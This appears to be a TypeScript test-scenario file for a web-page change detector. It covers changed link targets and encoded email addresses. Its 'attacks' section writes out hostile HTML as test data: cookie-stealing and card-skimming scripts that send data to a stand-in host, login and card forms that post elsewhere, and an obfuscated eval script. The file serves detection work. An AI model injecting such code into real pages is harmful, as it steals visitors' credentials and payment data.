// Where links lead: another path in the content, another host anywhere, another document; and addresses behind keys.
import { menuOf, news, office, scope, shop } from "../page.ts";
import { critical, important, noise, rows, type Scenario, same, told } from "../scenario.ts";

const link = (href: string) => office(`<p>Here is <a href="${href}">the form</a> you need.</p>`);
const inOffice = (piece: string) => office(piece);

const targets = [
  ...rows("link", link, told(), [
    ["another path", "/forms/passport", "/forms/passport-2027"],
    ["another document", "/files/fees-2026.pdf", "/files/fees-2027.pdf"],
    [
      "a document that is a uuid",
      "/files/0b9f7a36-5f3e-4a58-9d0f-2c1f5a0b7d11.pdf",
      "/files/c7d2e1f0-93ab-4c6d-8e5f-a1b2c3d4e5f6.pdf",
    ],
    [
      "a document that is a hash",
      "/files/9e107d9d372bb6826bd81d3542a419d6.pdf",
      "/files/e4d909c290d0fb1ca068ffaddf22cbd0.pdf",
    ],
    ["another question", "/search?year=2026", "/search?year=2027"],
    ["another fragment", "/rules#fees", "/rules#fines"],
    ["nothing became a page", "#", "/book"],
    ["a page became nothing", "/book", "#"],
    ["https became http", "https://forms.brackwater.example/a", "http://forms.brackwater.example/a"],
    ["mail became a page", "mailto:office@brackwater.example", "/contact-form"],
    ["another mail address", "mailto:office@brackwater.example", "mailto:office@brackwater-city.example"],
    ["another telephone", "tel:+3512155501", "tel:+3512155599"],
    ["a page became a script", "/forms", "javascript:alert(1)"],
  ]),
  ...rows("link", link, told(["elsewhere.example"]), [
    ["another host", "/forms", "https://elsewhere.example/forms"],
    ["from host to host", "https://forms.brackwater.example/a", "https://elsewhere.example/a"],
  ]),
  ...rows("link", inOffice, told(["fee table"]), [
    [
      "words became a link",
      "<p>See the fee table first.</p>",
      '<p>See the <a href="/fees">fee table</a> first.</p>',
    ],
    [
      "a link became words",
      '<p>See the <a href="/fees">fee table</a> first.</p>',
      "<p>See the fee table first.</p>",
    ],
  ]),
  ...rows("link", inOffice, told(), [
    [
      "a label's edge",
      '<p>Read <a href="/fees">the new</a> rules</p>',
      '<p>Read <a href="/fees">the new rules</a></p>',
    ],
    [
      "two links changed places",
      '<p><a href="/a">North</a> <a href="/b">South</a></p>',
      '<p><a href="/b">North</a> <a href="/a">South</a></p>',
    ],
    [
      "a second link of the same name",
      '<p><a href="/a">Download</a></p>',
      '<p><a href="/a">Download</a> <a href="/b">Download</a></p>',
    ],
    [
      "a button's link",
      '<a class="btn" href="/wait"><button>Go</button></a>',
      '<a class="btn" href="/book"><button>Go</button></a>',
    ],
    [
      "a picture's link",
      '<a href="/a"><img src="/dot.png" alt=""></a>',
      '<a href="/c"><img src="/dot.png" alt=""></a>',
    ],
  ]),
  ...rows(
    "link",
    (href) => news({ footer: `<a href="${href}">Press office</a>` }),
    told(["elsewhere.example"]),
    [["another host in the footer", "/press", "https://elsewhere.example/press"]],
  ),
  ...rows(
    "link",
    (href) =>
      shop({
        menu: menuOf([
          ["Home", "/"],
          ["Shop", "/shop"],
          ["Pay", href],
        ]),
      }),
    told(["elsewhere.example"]),
    [["another host in the menu", "/pay", "https://elsewhere.example/pay"]],
  ),
  ...rows("link", (href) => scope(`<p><a href="${href}">our key</a></p>`), told(), [
    ["a key on another path", "/pgp-key.txt", "/pgp-key-2027.txt"],
  ]),
];

const unchanged = [
  ...rows("link", link, noise, [
    ["a tracking mark", "/forms?utm_source=%pick:mail|chat|feed%", "/forms?utm_source=%pick:mail|chat|feed%"],
    ["a session in the address", "/forms;jsessionid=%hex:32%", "/forms;jsessionid=%hex:32%"],
    ["a token in the address", "/forms?token=%base64:43%", "/forms?token=%base64:43%"],
  ]),
];

// The same address under two keys, and another one, as Cloudflare hides them.
const hidden = (encoded: string) =>
  office(
    `<p>Write to <a href="/cdn-cgi/l/email-protection" class="__cf_email__" data-cfemail="${encoded}">[email&#160;protected]</a></p>`,
  );
const encode = (address: string, key: number) =>
  Buffer.from([key, ...Buffer.from(address).map((byte) => byte ^ key)]).toString("hex");
const linked = (encoded: string) =>
  office(`<p><a href="/cdn-cgi/l/email-protection#${encoded}">Write to us</a></p>`);

const addresses = [
  ...rows("address", hidden, same, [
    [
      "the same address under another key",
      encode("office@brackwater.example", 0x2a),
      encode("office@brackwater.example", 0x7f),
    ],
  ]),
  ...rows("address", hidden, told(["thief@elsewhere.example"]), [
    [
      "another address under the same key",
      encode("office@brackwater.example", 0x2a),
      encode("thief@elsewhere.example", 0x2a),
    ],
  ]),
  ...rows("address", hidden, told(["registry@brackwater.example"]), [
    [
      "another address under another key",
      encode("office@brackwater.example", 0x2a),
      encode("registry@brackwater.example", 0x51),
    ],
  ]),
  ...rows("address", linked, same, [
    [
      "a linked address under another key",
      encode("office@brackwater.example", 0x2a),
      encode("office@brackwater.example", 0x7f),
    ],
  ]),
  ...rows("address", linked, told(), [
    [
      "another linked address",
      encode("office@brackwater.example", 0x2a),
      encode("thief@elsewhere.example", 0x2a),
    ],
  ]),
];

const form = (action: string) =>
  office(
    `<form method="post" action="${action}"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>`,
  );
const script = (src: string) => shop({ end: src });

const attacks = [
  ...rows("attack", form, critical, [
    ["a form posts elsewhere", "/sign-in", "https://elsewhere.example/collect"],
    ["a form posts by another scheme", "https://login.brackwater.example/in", "http://elsewhere.example/in"],
  ]),
  ...rows("attack", (piece) => office(piece), critical, [
    [
      "a form that asks for cards",
      "",
      '<form action="https://pay.elsewhere.example/"><input name="card"><input name="cvc"></form>',
    ],
    [
      "a password form comes and posts elsewhere",
      "",
      '<form method="post" action="https://elsewhere.example/in"><input type="password" name="p"></form>',
    ],
  ]),
  ...rows("attack", script, critical, [
    ["a script of a new host", "", '<script src="https://stats.elsewhere.example/t.js"></script>'],
    ["a script written in", "", '<script>fetch("https://elsewhere.example/?c="+document.cookie)</script>'],
    [
      "a script that listens to cards",
      "",
      "<script>document.forms[0]&&document.forms[0].addEventListener('submit',e=>navigator.sendBeacon('https://elsewhere.example/x',new FormData(e.target)))</script>",
    ],
  ]),
  ...rows("attack", (piece) => office(piece), important, [
    [
      "a frame of another host",
      "",
      '<iframe src="https://elsewhere.example/frame" width="400" height="300"></iframe>',
    ],
    [
      "a handler",
      '<a href="/book">Book</a>',
      '<a href="/book" onclick="location=\'https://elsewhere.example\'">Book</a>',
    ],
    ["a base of another host", "", '<base href="https://elsewhere.example/">'],
  ]),
  ...rows("attack", script, important, [
    [
      "a script in disguise",
      "",
      "<script>eval(atob('d2luZG93LmVsc2V3aGVyZT0naHR0cHM6Ly9lbHNld2hlcmUuZXhhbXBsZSc='))</script>",
    ],
  ]),
  ...rows("attack", (piece) => news(piece), important, [
    ["links to betting", "", '<p><a href="https://slots.example/">online casino slots jackpot</a></p>'],
  ]),
];

export const links: Scenario[] = [...targets, ...unchanged, ...addresses, ...attacks];
